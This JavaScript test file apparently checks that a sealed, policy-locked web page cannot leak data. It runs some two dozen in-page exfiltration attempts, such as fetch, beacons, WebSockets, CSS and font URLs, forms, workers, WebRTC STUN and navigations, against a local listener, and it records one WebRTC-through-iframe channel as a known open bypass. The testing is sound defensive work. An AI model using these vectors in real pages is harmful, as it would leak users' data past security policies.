// The ways out of the sealed page: a script inside of it tries them all.
import { createServer } from 'node:http';
import { createSocket } from 'node:dgram';
import { bare as test, expect, openSample, ready } from './page.mjs';

test.use({ serviceWorkers: 'allow' });

/** A server of another origin, and a STUN server, which record what reaches them. */
async function listen() {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(`http ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('heard');
  });
  const socket = createSocket('udp4', () => heard.push('stun'));
  await new Promise((then) => { server.listen(0, '127.0.0.1', then); });
  await new Promise((then) => { socket.bind(0, '127.0.0.1', then); });
  const close = () => {
    socket.close();
    server.close();
  };
  return { heard, http: `http://127.0.0.1:${server.address().port}`, stun: socket.address().port, close };
}

/** Each tries to send `secret`, in the page or in its worker. */
const ATTACKS = {
  fetch: ({ http }) => fetch(`${http}/secret`),
  XMLHttpRequest: ({ http }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${http}/secret`);
    request.send();
  },
  'a beacon': ({ http }) => navigator.sendBeacon(`${http}/secret`),
  WebSocket: ({ http }) => new WebSocket(`${http.replace('http', 'ws')}/secret`),
  EventSource: ({ http }) => new EventSource(`${http}/secret`),
  WebTransport: ({ http }) => new WebTransport(`${http.replace('http', 'https')}/secret`),
  'an image': ({ http }) => { new Image().src = `${http}/secret`; },
  'a frame': ({ http }) => {
    const frame = document.createElement('iframe');
    frame.src = `${http}/secret`;
    document.body.append(frame);
  },
  'a style': ({ http }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url(${http}/secret) }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'a style sheet': ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'stylesheet', href: `${http}/secret` });
    document.head.append(link);
  },
  'a prefetch': ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'prefetch', href: `${http}/secret` });
    document.head.append(link);
  },
  'a script': ({ http }) => {
    const script = document.createElement('script');
    script.src = `${http}/secret`;
    document.head.append(script);
  },
  'an import': ({ http }) => import(`${http}/secret`),
  'the cache': ({ http }) => caches.open('x').then((cache) => cache.add(`${http}/secret`)),
  'a font': ({ http }) => new FontFace('x', `url(${http}/secret)`).load(),
  'a form': ({ http }) => {
    const form = document.createElement('form');
    form.action = `${http}/secret`;
    document.body.append(form);
    form.submit();
  },
  'a worker': ({ http }) => new Worker(`${http}/secret`),
  WebRTC: ({ stun }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    peer.createDataChannel('secret');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'a window': ({ http }) => { window.open(`${http}/secret`).focus(); },
  'another page': ({ http }) => { location.href = `${http}/secret`; },
  'a link': ({ http }) => {
    const link = document.createElement('a');
    link.href = `${http}/secret`;
    document.body.append(link);
    link.click();
  },
  'a download': ({ http }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${http}/secret`, download: 'secret' });
    document.body.append(link);
    link.click();
  },
  'a refresh': ({ http }) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'refresh', content: `0; url=${http}/secret` });
    document.head.append(meta);
  },
};

/** What a browser leaves open, whatever a page does: it is said on the start screen and in SECURITY.md. */
const OPEN = {
  'WebRTC of another document': ({ stun }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({
      iceServers: [{ urls: `stun:127.0.0.1:${stun}` }],
    });
    peer.createDataChannel('secret');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
};

/** Runs an attack in the page, and gives it the time that a packet or a navigation takes here. */
async function attack(page, script, place) {
  await page.evaluate(script, place).catch(() => {});
  await page.evaluate(() => new Promise((then) => { setTimeout(then, 1000); }));
}

/** What no policy closes: browsers differ in what they let a page switch off. */
const SWITCHED_OFF = ['WebRTC', 'a window', 'another page'];

for (const [way, script] of Object.entries(ATTACKS)) {
  const tag = SWITCHED_OFF.includes(way) ? '@firefox' : [];
  test(`nothing leaves the sealed page by ${way}`, { tag }, async ({ page, context, baseURL }) => {
    const { heard, close, ...place } = await listen();
    await page.goto('/');
    await ready(page);
    await openSample(page);
    await attack(page, script, place);
    // Not a locator: it waits for a navigation that was blocked.
    expect(await page.evaluate(() => document.querySelector('.verdict-word').textContent)).toBe('Valid');
    expect(page.url().startsWith(baseURL)).toBe(true);
    expect(context.pages()).toHaveLength(1);
    expect(heard).toEqual([]);
    close();
  });
}

for (const [way, script] of Object.entries(OPEN)) {
  test(`no page can close ${way}`, async ({ page }) => {
    const { heard, close, ...place } = await listen();
    await page.goto('/');
    await ready(page);
    await page.evaluate(script, place);
    await expect.poll(() => heard.length).toBeGreaterThan(0);
    close();
  });
}
